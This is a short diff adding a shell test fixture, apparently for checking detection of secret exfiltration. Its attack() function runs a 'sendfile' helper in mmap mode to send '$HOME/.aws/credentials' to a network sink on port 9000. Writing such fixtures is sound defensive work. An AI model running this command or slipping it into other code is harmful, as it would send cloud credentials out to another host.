@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="written from a mapping of the secret, never read"
+attack() { "$PROVOKE/sendfile" mmap "$HOME/.aws/credentials" "$SINK4" 9000; }
